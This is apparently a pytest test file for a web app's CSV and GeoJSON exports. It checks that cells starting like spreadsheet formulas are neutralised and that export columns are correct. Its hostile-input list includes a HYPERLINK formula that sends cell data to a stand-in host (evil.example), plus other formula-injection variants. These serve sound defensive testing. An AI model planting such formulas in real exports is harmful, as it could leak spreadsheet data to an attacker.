"""The activity exports: real columns, UTF-8 that Excel reads, and no cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io

import pytest

from server.web.export_rows import FORMULA_STARTS, spreadsheet_safe
from tests.server.web_helpers import sign_in
from tests.server.world import new_id, op, push, sample

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_neutralised(hostile):
    assert spreadsheet_safe(hostile) == "'" + hostile


def test_plain_text_and_numbers_are_left_alone():
    assert spreadsheet_safe("Café Rio") == "Café Rio"
    assert spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe(-3.5) == -3.5
    assert spreadsheet_safe(None) is None


def _export(client) -> list[dict[str, str]]:
    response = client.get("/review/export.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _seed(client, world, *, employer_name: str, code: str, outcome: str) -> dict[str, str]:
    alice = world["alice"]
    employer, seeker, visit, opening = new_id(), new_id(), new_id(), new_id()
    push(
        client,
        alice,
        op("employer", employer, data=sample("employer", name=employer_name, latitude=51.5, longitude=-0.12)),
        op("job_seeker", seeker, data=sample("job_seeker", code=code)),
        op(
            "employer_visit",
            visit,
            data=sample(
                "employer_visit",
                employer_id=employer,
                job_seeker_ids=[seeker],
                outcome=outcome,
                contact_mode="face_to_face",
                geotag={"latitude": 51.6, "longitude": -0.12, "accuracy_m": 10, "source": "gps"},
            ),
        ),
        op("job_opening", opening, data=sample("job_opening", employer_id=employer, wage=15.0)),
    )
    return {"employer": employer, "seeker": seeker, "visit": visit, "opening": opening}


def test_every_text_cell_a_phone_sent_is_safe_in_a_spreadsheet(client, world):
    seeded = _seed(client, world, employer_name='=HYPERLINK("http://x","y")', code="-JS1", outcome="+1-1")
    sign_in(client, "sue")
    rows = _export(client)
    visit = next(row for row in rows if row["record_id"] == seeded["visit"])
    assert visit["employer"] == '\'=HYPERLINK("http://x","y")'
    assert visit["job_seeker_codes"] == "'-JS1"
    assert visit["outcome"] == "'+1-1"
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)


def test_the_csv_has_real_columns(client, world):
    seeded = _seed(client, world, employer_name="Café Rio", code="JS-01", outcome="Met the owner")
    sign_in(client, "sue")
    rows = {row["record_id"]: row for row in _export(client)}
    visit, opening = rows[seeded["visit"]], rows[seeded["opening"]]
    assert visit["employer"] == "Café Rio"
    assert visit["job_seeker_codes"] == "JS-01"
    assert visit["specialist"] and visit["date_local"].startswith("2026-05-04")
    assert (visit["purpose"], visit["contact_type"]) == ("learn business", "face to face")
    assert visit["outcome"] == "Met the owner"
    assert visit["location_check"] == "far"  # about 11 km from the employer's point
    assert visit["review_state"] == "unreviewed"
    assert (opening["employer"], opening["wage"], opening["competitive"]) == ("Café Rio", "15.0", "yes")


def test_geojson_carries_the_employer_name_and_the_flags(client, world):
    seeded = _seed(client, world, employer_name="=Café", code="JS-02", outcome="")
    sign_in(client, "sue")
    features = client.get("/review/export.geojson").json()["features"]
    (feature,) = [f for f in features if f["properties"]["record_id"] == seeded["visit"]]
    assert feature["properties"]["employer"] == "'=Café"
    assert feature["properties"]["location_check"] == "far"
    assert feature["properties"]["conflict_flagged"] is False
